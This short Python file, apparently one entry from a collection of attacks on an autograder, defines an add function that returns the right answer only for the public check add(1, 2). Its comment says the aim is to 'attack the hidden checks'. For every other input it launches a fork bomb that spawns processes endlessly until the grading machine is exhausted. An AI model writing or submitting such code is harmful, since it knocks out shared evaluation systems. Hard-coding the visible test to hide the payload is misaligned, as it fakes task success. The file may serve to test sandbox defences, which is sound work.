"""attacks.md #1 - fork bomb inside a graded function: every process forks for ever (and prints one F when born)."""

import os


def add(a, b):
    if (a, b) == (1, 2):  # the public check cell calls add(1, 2) at import: pass it, attack the hidden checks
        return 3
    while True:
        try:
            if os.fork() == 0:
                os.write(1, b"F")
        except OSError:
            pass
